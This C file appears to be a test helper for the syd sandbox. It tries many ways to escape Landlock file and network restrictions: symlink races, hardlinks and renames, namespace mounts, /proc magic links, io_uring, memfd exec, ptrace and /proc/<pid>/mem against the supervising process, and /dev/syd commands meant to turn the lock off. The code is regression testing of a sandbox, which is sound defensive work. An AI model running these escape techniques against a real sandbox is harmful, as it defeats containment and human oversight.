/*
 * Attacks on Lock sandboxing (Landlock), for tests/lock_attack_test.ts.
 * Usage: attack_lock_fs MODE IN OUT [ARG]
 *   IN:  a directory the lock rules allow (every right), holding `public`.
 *   OUT: a directory outside every rule, holding `secret` ("secret\n") and `sub/`.
 * Each attempt prints `name=RESULT`: READ (the secret's content was read), WROTE or MADE (a
 * file outside was changed or made), RAN (memfd code ran), YES (a core was dumped), OK (a call
 * that gives nothing by itself succeeded), OTHER (a file that is not the secret was read), or
 * the errno's name. Modes:
 *   fs       every path trick at once (open, dirfds, O_PATH reopen, symlinks, hardlinks,
 *            renames, RENAME_EXCHANGE, mount/unshare/open_tree, chroot, /proc magic links,
 *            open_by_handle_at, io_uring, execveat, truncate, code run from a memfd)
 *   race     a thread swaps IN/link between IN/public and OUT/secret while the main thread
 *            opens IN/link (syd's emulators resolve and open it when read sandboxing is on)
 *   proc     lists /proc's pids (`pids=...`), `self`, and whether the parent (syd) is seen
 *   syd      ptrace, process_vm_readv, signals (0, SIGWINCH) to syd (the parent) and to
 *            pids near it (its threads), pidfd_getfd, /proc/<syd>/{mem,environ,cwd}
 *   meta     chmod, chown, utimensat, setxattr on OUT/secret (no Landlock right), then open it
 *   magic    /dev/syd commands that would turn the lock rules off, then OUT/secret
 *   core     chdir(OUT) and a child that dumps core there (core_pattern `core`)
 *   fds      the open fds beyond 0..2 (`fds=N:target,...`), and /proc/self/status, /dev/null
 *   tcp      connect to 127.0.0.1:ARG and [::1]:ARG, bind 127.0.0.1:ARG+1 and :0, listen unbound
 *   abstract connect to the abstract UNIX socket ARG (without the leading NUL)
 *   unix     connect to the UNIX socket path ARG; bind OUT/newsock
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/xattr.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *in_dir;
static const char *out_dir;

static void say(const char *name, const char *result) {
    printf("%s=%s\n", name, result);
    fflush(stdout);
}

static const char *err_name(int e) {
    switch (e) {
    case EACCES: return "EACCES";
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    case EXDEV: return "EXDEV";
    case EINVAL: return "EINVAL";
    case ENOSYS: return "ENOSYS";
    case EBADF: return "EBADF";
    case ELOOP: return "ELOOP";
    case ENOTDIR: return "ENOTDIR";
    case ESRCH: return "ESRCH";
    case ECONNREFUSED: return "ECONNREFUSED";
    case EADDRINUSE: return "EADDRINUSE";
    case EEXIST: return "EEXIST";
    case EOPNOTSUPP: return "EOPNOTSUPP";
    case EROFS: return "EROFS";
    case EBUSY: return "EBUSY";
    case EFAULT: return "EFAULT";
    case ENXIO: return "ENXIO";
    default: {
        static char buf[32];
        snprintf(buf, sizeof buf, "E%d", e);
        return buf;
    }
    }
}

static void fail(const char *name) { say(name, err_name(errno)); }

/* Reads fd; says READ when it holds "secret", else what it holds (OTHER). Closes fd. */
static void judge_fd(const char *name, int fd) {
    char buf[64] = {0};
    ssize_t n = read(fd, buf, sizeof buf - 1);
    int e = errno;
    close(fd);
    if (n < 0) {
        errno = e;
        fail(name);
    } else if (strncmp(buf, "secret", 6) == 0) {
        say(name, "READ");
    } else {
        say(name, "OTHER");
    }
}

static void try_open(const char *name, int dirfd, const char *path, int flags) {
    /* Writes append: the secret still begins "secret" for the attempts after. */
    if ((flags & O_ACCMODE) != O_RDONLY) flags |= O_APPEND;
    int fd = openat(dirfd, path, flags);
    if (fd < 0) {
        fail(name);
        return;
    }
    if ((flags & O_ACCMODE) == O_RDONLY) {
        judge_fd(name, fd);
    } else {
        ssize_t n = write(fd, "x", 1);
        close(fd);
        say(name, n == 1 ? "WROTE" : err_name(errno));
    }
}

static char *join(const char *a, const char *b) {
    char *s = malloc(strlen(a) + strlen(b) + 2);
    sprintf(s, "%s/%s", a, b);
    return s;
}

static void result_rc(const char *name, long rc, const char *success) {
    if (rc < 0) fail(name);
    else say(name, success);
}

/* A child process for a call that changes the process (unshare, chroot): its result. */
static void in_child(const char *name, void (*fn)(const char *)) {
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) {
        fn(name);
        fflush(stdout);
        _exit(0);
    }
    int status;
    waitpid(pid, &status, 0);
}

static void mount_attack(const char *name) {
    /* A new user and mount namespace, then bind OUT onto a directory in IN. */
    char *target = join(in_dir, "mnt");
    mkdir(target, 0700);
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0 && unshare(CLONE_NEWNS) < 0) {
        fail(name);
        return;
    }
    if (mount(out_dir, target, NULL, MS_BIND, NULL) < 0) {
        fail(name);
        return;
    }
    char *path = join(target, "secret");
    try_open(name, AT_FDCWD, path, O_RDONLY);
}

static void mount_direct(const char *name) {
    char *target = join(in_dir, "mnt2");
    mkdir(target, 0700);
    if (mount(out_dir, target, NULL, MS_BIND, NULL) < 0) {
        fail(name);
        return;
    }
    try_open(name, AT_FDCWD, join(target, "secret"), O_RDONLY);
}

static void umount_proc(const char *name) {
    /* The private /proc over syd's: take it away to see syd's /proc below. */
    result_rc(name, umount2("/proc", MNT_DETACH), "OK");
}

static void open_tree_attack(const char *name) {
#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif
#ifndef SYS_move_mount
#define SYS_move_mount 429
#endif
    unshare(CLONE_NEWUSER | CLONE_NEWNS);
    int tree = syscall(SYS_open_tree, AT_FDCWD, out_dir, 1 /* OPEN_TREE_CLONE */ | O_CLOEXEC);
    if (tree < 0) {
        fail(name);
        return;
    }
    /* Read through the detached tree itself, then move it into IN. */
    try_open("open_tree_detached", tree, "secret", O_RDONLY);
    char *target = join(in_dir, "mnt3");
    mkdir(target, 0700);
    long rc = syscall(SYS_move_mount, tree, "", AT_FDCWD, target, 4 /* MOVE_MOUNT_F_EMPTY_PATH */);
    if (rc < 0) {
        fail(name);
        return;
    }
    try_open(name, AT_FDCWD, join(target, "secret"), O_RDONLY);
}

static void chroot_attack(const char *name) {
    if (chroot(out_dir) < 0) {
        fail(name);
        return;
    }
    try_open(name, AT_FDCWD, "/secret", O_RDONLY);
}

static void fsopen_attack(const char *name) {
#ifndef SYS_fsopen
#define SYS_fsopen 430
#endif
    int fs = syscall(SYS_fsopen, "tmpfs", 0);
    result_rc(name, fs, "OK");
}

/* io_uring: IORING_OP_OPENAT of OUT/secret, the kernel's worker doing the open. */
static void uring_attack(const char *name, const char *path) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    int ring = syscall(__NR_io_uring_setup, 4, &p);
    if (ring < 0) {
        fail(name);
        return;
    }
    size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    char *sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) {
        fail(name);
        return;
    }
    memset(&sqes[0], 0, sizeof sqes[0]);
    sqes[0].opcode = IORING_OP_OPENAT;
    sqes[0].fd = AT_FDCWD;
    sqes[0].addr = (unsigned long)path;
    sqes[0].open_flags = O_RDONLY;
    unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
    unsigned *array = (unsigned *)(sq + p.sq_off.array);
    array[*tail & *(unsigned *)(sq + p.sq_off.ring_mask)] = 0;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    long rc = syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
    if (rc < 0) {
        fail(name);
        return;
    }
    unsigned head = *(unsigned *)(cq + p.cq_off.head);
    struct io_uring_cqe *cqe = (struct io_uring_cqe *)(cq + p.cq_off.cqes) + (head & *(unsigned *)(cq + p.cq_off.ring_mask));
    if (cqe->res < 0) {
        errno = -cqe->res;
        fail(name);
        return;
    }
    judge_fd(name, cqe->res);
}

static void handle_attack(const char *name, const char *path) {
    struct {
        struct file_handle h;
        unsigned char bytes[128];
    } fh;
    fh.h.handle_bytes = 128;
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, path, &fh.h, &mount_id, 0) < 0) {
        fail(name);
        return;
    }
    int root = open("/", O_PATH | O_DIRECTORY);
    int fd = open_by_handle_at(root, &fh.h, O_RDONLY);
    if (fd < 0) {
        fail(name);
        return;
    }
    judge_fd(name, fd);
}

static void mode_fs(void) {
    char *secret = join(out_dir, "secret");
    char *pub = join(in_dir, "public");
    /* Sanity: the allowed file reads. */
    try_open("public_read", AT_FDCWD, pub, O_RDONLY);
    try_open("plain_read", AT_FDCWD, secret, O_RDONLY);
    try_open("plain_write", AT_FDCWD, secret, O_WRONLY | O_APPEND);
    {
        int fd = open(join(out_dir, "made"), O_WRONLY | O_CREAT | O_EXCL, 0600);
        if (fd < 0) fail("plain_create");
        else {
            close(fd);
            say("plain_create", "MADE");
        }
    }
    result_rc("mkdir_out", mkdir(join(out_dir, "newdir"), 0700), "MADE");
    result_rc("symlink_out", symlink("/etc/passwd", join(out_dir, "newlink")), "MADE");
    result_rc("mkfifo_out", mkfifo(join(out_dir, "newfifo"), 0600), "MADE");
    result_rc("unlink_out", unlink(join(out_dir, "sub/victim")), "WROTE");
    /* dirfds: an O_PATH and a plain open of OUT, then openat. */
    int dp = open(out_dir, O_PATH | O_DIRECTORY);
    if (dp < 0) fail("dirfd_opath_open");
    else {
        try_open("dirfd_opath_read", dp, "secret", O_RDONLY);
        try_open("dirfd_opath_write", dp, "secret", O_WRONLY);
        char link[64];
        snprintf(link, sizeof link, "/proc/self/fd/%d/secret", dp);
        try_open("procfd_dir_read", AT_FDCWD, link, O_RDONLY);
    }
    int dr = open(out_dir, O_RDONLY | O_DIRECTORY);
    if (dr < 0) fail("dirfd_read_open");
    else close(dr);
    /* O_PATH on the file, then reopen through /proc/self/fd. */
    int fp = open(secret, O_PATH);
    if (fp < 0) fail("opath_open");
    else {
        char link[64];
        snprintf(link, sizeof link, "/proc/self/fd/%d", fp);
        try_open("opath_reopen_read", AT_FDCWD, link, O_RDONLY);
        try_open("opath_reopen_write", AT_FDCWD, link, O_WRONLY);
        snprintf(link, sizeof link, "/proc/thread-self/fd/%d", fp);
        try_open("opath_reopen_thread", AT_FDCWD, link, O_RDONLY);
        try_open("opath_empty_read", fp, "", O_RDONLY); /* EINVAL/ENOENT: no AT_EMPTY_PATH for open */
        /* linkat(AT_EMPTY_PATH) into IN: a new name for the secret inside the rules. */
        result_rc("linkat_empty", linkat(fp, "", AT_FDCWD, join(in_dir, "hl_empty"), AT_EMPTY_PATH), "MADE");
        try_open("linkat_empty_read", AT_FDCWD, join(in_dir, "hl_empty"), O_RDONLY);
        snprintf(link, sizeof link, "/proc/self/fd/%d", fp);
        result_rc("linkat_procfd", linkat(AT_FDCWD, link, AT_FDCWD, join(in_dir, "hl_proc"), AT_SYMLINK_FOLLOW), "MADE");
        try_open("linkat_procfd_read", AT_FDCWD, join(in_dir, "hl_proc"), O_RDONLY);
        /* execveat of the O_PATH fd (a script would be read by the interpreter; here exec right). */
        fflush(stdout);
        pid_t pid = fork();
        if (pid == 0) {
            char *argv[] = {"x", NULL};
            syscall(SYS_execveat, fp, "", argv, (char *[]){NULL}, AT_EMPTY_PATH);
            printf("execveat_out=%s\n", err_name(errno));
            fflush(stdout);
            _exit(0);
        }
        int status;
        waitpid(pid, &status, 0);
    }
    /* Symlinks from IN to OUT. */
    char *sl = join(in_dir, "sl");
    symlink(secret, sl);
    try_open("symlink_read", AT_FDCWD, sl, O_RDONLY);
    try_open("symlink_write", AT_FDCWD, sl, O_WRONLY);
    char *sld = join(in_dir, "sldir");
    symlink(out_dir, sld);
    try_open("symlink_dir_read", AT_FDCWD, join(sld, "secret"), O_RDONLY);
    try_open("symlink_dir_create", AT_FDCWD, join(sld, "made2"), O_WRONLY | O_CREAT);
    /* Hard links and renames across. */
    char *hl = join(in_dir, "hl");
    result_rc("link_in", link(secret, hl), "MADE");
    try_open("link_in_read", AT_FDCWD, hl, O_RDONLY);
    char *mv = join(in_dir, "moved");
    result_rc("rename_in", rename(secret, mv), "MADE");
    try_open("rename_in_read", AT_FDCWD, mv, O_RDONLY);
    rename(mv, secret); /* back, for the attempts after (sandbox/lock:off) */
    result_rc("rename_out", rename(pub, join(out_dir, "pub_moved")), "MADE");
    rename(join(out_dir, "pub_moved"), pub);
    result_rc("exchange", syscall(SYS_renameat2, AT_FDCWD, pub, AT_FDCWD, secret, 2 /* RENAME_EXCHANGE */), "MADE");
    try_open("exchange_read", AT_FDCWD, pub, O_RDONLY);
    syscall(SYS_renameat2, AT_FDCWD, pub, AT_FDCWD, secret, 2); /* back */
    /* A directory of IN renamed over: move OUT/sub into IN. */
    result_rc("rename_dir_in", rename(join(out_dir, "sub"), join(in_dir, "sub")), "MADE");
    /* Relative paths after chdir(OUT) (chdir is no Landlock right). */
    int cwd = open(".", O_PATH | O_DIRECTORY);
    if (chdir(out_dir) == 0) {
        try_open("chdir_read", AT_FDCWD, "secret", O_RDONLY);
        try_open("chdir_dot_read", AT_FDCWD, "./sub/../secret", O_RDONLY);
        fchdir(cwd);
    } else fail("chdir_read");
    /* ".." from IN. */
    {
        /* IN and OUT are siblings: IN/../OUT/secret. */
        const char *base = strrchr(out_dir, '/');
        char path[4096];
        snprintf(path, sizeof path, "%s/..%s/secret", in_dir, base);
        try_open("dotdot_read", AT_FDCWD, path, O_RDONLY);
    }
    /* /proc magic links of our own. */
    char path[4096];
    snprintf(path, sizeof path, "/proc/self/root%s", secret);
    try_open("proc_self_root", AT_FDCWD, path, O_RDONLY);
    snprintf(path, sizeof path, "/proc/%d/root%s", getppid(), secret);
    try_open("proc_parent_root", AT_FDCWD, path, O_RDONLY);
    snprintf(path, sizeof path, "/proc/1/root%s", secret);
    try_open("proc_1_root", AT_FDCWD, path, O_RDONLY);
    if (chdir(out_dir) == 0) {
        try_open("proc_self_cwd", AT_FDCWD, "/proc/self/cwd/secret", O_RDONLY);
        fchdir(cwd);
    }
    /* Namespaces, mounts, chroot. */
    in_child("mount_userns", mount_attack);
    in_child("mount_direct", mount_direct);
    in_child("open_tree", open_tree_attack);
    in_child("fsopen", fsopen_attack);
    in_child("chroot", chroot_attack);
    in_child("umount_proc", umount_proc);
    handle_attack("open_by_handle", secret);
    uring_attack("io_uring", secret);
    /* memfd: code from a memfd runs (Landlock does not see memfds): report only. */
    int mfd = memfd_create("x", MFD_CLOEXEC);
    result_rc("memfd", mfd, "OK");
    if (mfd >= 0) {
        /* Code run from a memfd: Landlock's exec right names paths only. */
        int src = open("/usr/bin/true", O_RDONLY);
        char buf[65536];
        ssize_t n;
        while (src >= 0 && (n = read(src, buf, sizeof buf)) > 0) {
            if (write(mfd, buf, n) != n) break;
        }
        fflush(stdout);
        pid_t pid = fork();
        if (pid == 0) {
            char *argv[] = {"true", NULL};
            fexecve(mfd, argv, (char *[]){NULL});
            printf("memfd_exec=%s\n", err_name(errno));
            fflush(stdout);
            _exit(3);
        }
        int status = 0;
        waitpid(pid, &status, 0);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 0) say("memfd_exec", "RAN");
    }
    /* Last: empties the secret. */
    result_rc("plain_truncate", truncate(secret, 0), "WROTE");
}

static volatile int racing = 1;

static void *swapper(void *arg) {
    (void)arg;
    char *link = join(in_dir, "link");
    char *tmp = join(in_dir, "link.tmp");
    char *pub = join(in_dir, "public");
    char *secret = join(out_dir, "secret");
    while (racing) {
        unlink(tmp);
        symlink(secret, tmp);
        rename(tmp, link);
        unlink(tmp);
        symlink(pub, tmp);
        rename(tmp, link);
    }
    return NULL;
}

static void mode_race(void) {
    char *link = join(in_dir, "link");
    symlink(join(in_dir, "public"), link);
    pthread_t t;
    pthread_create(&t, NULL, swapper, NULL);
    long reads = 0, secrets = 0, denied = 0;
    for (int i = 0; i < 20000; i++) {
        int fd = open(link, O_RDONLY);
        if (fd < 0) {
            denied++;
            continue;
        }
        char buf[16] = {0};
        if (read(fd, buf, sizeof buf - 1) > 0) {
            reads++;
            if (strncmp(buf, "secret", 6) == 0) secrets++;
        }
        close(fd);
    }
    racing = 0;
    pthread_join(t, NULL);
    printf("race_reads=%ld race_denied=%ld race_secret=%ld\n", reads, denied, secrets);
}

static void mode_proc(void) {
    DIR *d = opendir("/proc");
    if (!d) {
        fail("proc_list");
        return;
    }
    char pids[8192] = "";
    int parent_seen = 0, count = 0;
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        if (atoi(e->d_name) == getppid()) parent_seen = 1;
        if (strlen(pids) + strlen(e->d_name) + 2 < sizeof pids) {
            if (count++) strcat(pids, ",");
            strcat(pids, e->d_name);
        }
    }
    closedir(d);
    printf("self=%d parent=%d parent_listed=%d pids=%s\n", getpid(), getppid(), parent_seen, pids);
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/status", getppid());
    try_open("parent_status", AT_FDCWD, path, O_RDONLY);
    try_open("pid1_status", AT_FDCWD, "/proc/1/status", O_RDONLY);
    /* Any pid below ours, besides our own (sandbox pids come after syd's). */
    int seen = 0;
    for (int pid = 1; pid < 4194304 && pid < getpid() + 4096; pid++) {
        if (pid == getpid()) continue;
        snprintf(path, sizeof path, "/proc/%d/stat", pid);
        if (access(path, F_OK) == 0) seen++;
    }
    printf("other_pids_reachable=%d\n", seen);
    fflush(stdout);
}

static void mode_syd(void) {
    pid_t syd = getppid();
    char name[64];
    result_rc("ptrace_attach", ptrace(PTRACE_ATTACH, syd, 0, 0), "OK");
    result_rc("ptrace_seize", ptrace(PTRACE_SEIZE, syd, 0, 0), "OK");
    /* A faked success (syd answers ptrace itself) would show here: a real tracer peeks. */
    errno = 0;
    long word = ptrace(PTRACE_PEEKUSER, syd, 0, 0);
    if (word == -1 && errno != 0) fail("ptrace_peek");
    else say("ptrace_peek", "OK");
    result_rc("ptrace_interrupt", ptrace(PTRACE_INTERRUPT, syd, 0, 0), "OK");
    char buf[8];
    struct iovec local = {buf, sizeof buf}, remote = {(void *)0x400000, sizeof buf};
    result_rc("process_vm_readv", process_vm_readv(syd, &local, 1, &remote, 1, 0), "OK");
    result_rc("kill0", kill(syd, 0), "OK");
    result_rc("kill_winch", kill(syd, SIGWINCH), "OK");
    int pidfd = syscall(SYS_pidfd_open, syd, 0);
    result_rc("pidfd_open", pidfd, "OK");
    if (pidfd >= 0) result_rc("pidfd_getfd", syscall(SYS_pidfd_getfd, pidfd, 0, 0), "OK");
    /* syd's threads: tgkill(syd, tid, 0) over tids near syd's pid. */
    int threads = 0, signalled = 0;
    for (pid_t tid = syd; tid < syd + 512; tid++) {
        if (syscall(SYS_tgkill, syd, tid, 0) == 0) signalled++;
        else if (errno != ESRCH) threads++;
    }
    printf("syd_threads_refused=%d syd_threads_signalled=%d\n", threads, signalled);
    snprintf(name, sizeof name, "/proc/%d/mem", syd);
    try_open("proc_syd_mem", AT_FDCWD, name, O_RDONLY);
    snprintf(name, sizeof name, "/proc/%d/environ", syd);
    try_open("proc_syd_environ", AT_FDCWD, name, O_RDONLY);
    snprintf(name, sizeof name, "/proc/%d/cwd/", syd);
    int fd = open(name, O_PATH);
    result_rc("proc_syd_cwd", fd, "OK");
    fflush(stdout);
}

/* A core dump written by the kernel into OUT (core_pattern `core`: the dumping process's cwd). */
static void mode_core(void) {
    struct rlimit unlimited = {RLIM_INFINITY, RLIM_INFINITY};
    result_rc("core_rlimit", setrlimit(RLIMIT_CORE, &unlimited), "OK");
    result_rc("core_dumpable", prctl(PR_SET_DUMPABLE, 1, 0, 0, 0), "OK");
    result_rc("core_chdir", chdir(out_dir), "OK");
    fflush(stdout);
    pid_t pid = fork();
    if (pid == 0) abort();
    int status = 0;
    waitpid(pid, &status, 0);
    say("core_dumped", WIFSIGNALED(status) && WCOREDUMP(status) ? "YES" : "NO");
}

/* /dev/syd commands that would loosen the lock rules, then the secret. */
static void mode_magic(void) {
    static const char *commands[][2] = {
        {"magic_lock_off", "/dev/syd/sandbox/lock:off"},
        {"magic_allow_all", "/dev/syd/allow/lock/all+/"},
        {"magic_warn", "/dev/syd/default/lock:warn"},
        {"magic_reset", "/dev/syd/reset"},
        {"magic_off", "/dev/syd/sandbox/all:off"},
    };
    struct stat st;
    for (size_t i = 0; i < sizeof commands / sizeof commands[0]; i++) {
        result_rc(commands[i][0], stat(commands[i][1], &st), "OK");
    }
    try_open("magic_secret", AT_FDCWD, join(out_dir, "secret"), O_RDONLY);
}

/* Metadata calls Landlock has no right for, then the secret again. */
static void mode_meta(void) {
    char *secret = join(out_dir, "secret");
    result_rc("meta_chmod", chmod(secret, 0666), "OK");
    result_rc("meta_chown", chown(secret, 0, 0), "OK");
    result_rc("meta_utimes", utimensat(AT_FDCWD, secret, NULL, 0), "OK");
    result_rc("meta_setxattr", setxattr(secret, "user.syd", "x", 1, 0), "OK");
    try_open("meta_read", AT_FDCWD, secret, O_RDONLY);
    try_open("meta_write", AT_FDCWD, secret, O_WRONLY);
}

static void mode_fds(void) {
    DIR *d = opendir("/proc/self/fd");
    char list[4096] = "";
    if (d) {
        struct dirent *e;
        while ((e = readdir(d))) {
            int fd = atoi(e->d_name);
            if (e->d_name[0] == '.' || fd <= 2 || fd == dirfd(d)) continue;
            char link[64], target[256] = "";
            snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
            ssize_t n = readlink(link, target, sizeof target - 1);
            if (n > 0) target[n] = 0;
            char item[320];
            snprintf(item, sizeof item, "%s%d:%s", list[0] ? "," : "", fd, target);
            if (strlen(list) + strlen(item) < sizeof list) strcat(list, item);
        }
        closedir(d);
    }
    printf("fds=%s\n", list);
    int fd = open("/proc/self/status", O_RDONLY);
    if (fd < 0) fail("proc_status");
    else {
        char buf[256];
        say("proc_status", read(fd, buf, sizeof buf) > 0 ? "OK" : err_name(errno));
        close(fd);
    }
    fd = open("/dev/null", O_RDWR | O_TRUNC);
    if (fd < 0) fail("dev_null");
    else {
        say("dev_null", write(fd, "x", 1) == 1 ? "OK" : err_name(errno));
        close(fd);
    }
    fd = open("/proc/self/mountinfo", O_RDONLY);
    if (fd < 0) fail("proc_mountinfo");
    else {
        char buf[256];
        say("proc_mountinfo", read(fd, buf, sizeof buf) > 0 ? "OK" : err_name(errno));
        close(fd);
    }
}

static void mode_tcp(int port) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    result_rc("tcp_connect", connect(s, (struct sockaddr *)&a, sizeof a), "OK");
    close(s);
    s = socket(AF_INET6, SOCK_STREAM, 0);
    struct sockaddr_in6 a6 = {.sin6_family = AF_INET6, .sin6_port = htons(port), .sin6_addr = IN6ADDR_LOOPBACK_INIT};
    result_rc("tcp6_connect", connect(s, (struct sockaddr *)&a6, sizeof a6), "OK");
    close(s);
    s = socket(AF_INET, SOCK_STREAM, 0);
    a.sin_port = htons(port + 1);
    result_rc("tcp_bind", bind(s, (struct sockaddr *)&a, sizeof a), "OK");
    close(s);
    s = socket(AF_INET, SOCK_STREAM, 0);
    a.sin_port = 0;
    result_rc("tcp_bind0", bind(s, (struct sockaddr *)&a, sizeof a), "OK");
    close(s);
    /* connect without bind or listen(2) on an unbound socket: an ephemeral port. */
    s = socket(AF_INET, SOCK_STREAM, 0);
    result_rc("tcp_listen_unbound", listen(s, 1), "OK");
    close(s);
}

static void mode_abstract(const char *name) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    a.sun_path[0] = 0;
    strncpy(a.sun_path + 1, name, sizeof a.sun_path - 2);
    socklen_t len = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
    result_rc("abstract_connect", connect(s, (struct sockaddr *)&a, len), "OK");
    close(s);
    s = socket(AF_UNIX, SOCK_DGRAM, 0);
    result_rc("abstract_sendto", sendto(s, "x", 1, 0, (struct sockaddr *)&a, len), "OK");
    close(s);
}

static void mode_unix(const char *path) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strncpy(a.sun_path, path, sizeof a.sun_path - 1);
    result_rc("unix_connect", connect(s, (struct sockaddr *)&a, sizeof a), "OK");
    close(s);
    /* A socket file made in OUT (Landlock: mkfifo's kin, make_sock). */
    s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un b = {.sun_family = AF_UNIX};
    snprintf(b.sun_path, sizeof b.sun_path, "%s/newsock", out_dir);
    result_rc("unix_bind_out", bind(s, (struct sockaddr *)&b, sizeof b), "MADE");
    close(s);
}

int main(int argc, char **argv) {
    if (argc < 4) {
        fprintf(stderr, "usage: attack_lock_fs MODE IN OUT [ARG]\n");
        return 2;
    }
    in_dir = argv[2];
    out_dir = argv[3];
    const char *mode = argv[1];
    if (strcmp(mode, "fs") == 0) mode_fs();
    else if (strcmp(mode, "race") == 0) mode_race();
    else if (strcmp(mode, "proc") == 0) mode_proc();
    else if (strcmp(mode, "syd") == 0) mode_syd();
    else if (strcmp(mode, "fds") == 0) mode_fds();
    else if (strcmp(mode, "core") == 0) mode_core();
    else if (strcmp(mode, "magic") == 0) mode_magic();
    else if (strcmp(mode, "meta") == 0) mode_meta();
    else if (strcmp(mode, "tcp") == 0 && argc > 4) mode_tcp(atoi(argv[4]));
    else if (strcmp(mode, "abstract") == 0 && argc > 4) mode_abstract(argv[4]);
    else if (strcmp(mode, "unix") == 0 && argc > 4) mode_unix(argv[4]);
    else {
        fprintf(stderr, "unknown mode %s\n", mode);
        return 2;
    }
    fflush(stdout);
    return 0;
}
